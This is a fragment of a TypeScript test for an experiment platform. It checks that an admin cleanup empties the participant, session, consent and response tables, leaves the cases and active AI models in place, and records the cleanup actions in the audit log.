    for (const table of ['participants', 'sessions', 'pre_experiment_responses', 'main_experiment_responses', 'consent_records', 'case_set_items', 'post_surveys']) {
      expect(await rows(`select 1 from ${table}`), table).toHaveLength(0);
    }
    expect((await rows('select count(*) as n from cases'))[0]!.n).toBe(casesBefore);
    expect((await rows("select count(*) as n from ai_models where status = 'active'"))[0]!.n).toBeGreaterThan(0);
    const log = await json(await asAdmin('/api/admin/audit-log?limit=1000'), auditLogResponseSchema);
    expect(log.entries.map((e) => e.action)).toEqual(expect.arrayContaining(['cleanup_all_data', 'cleanup_model_files']));
  });
});
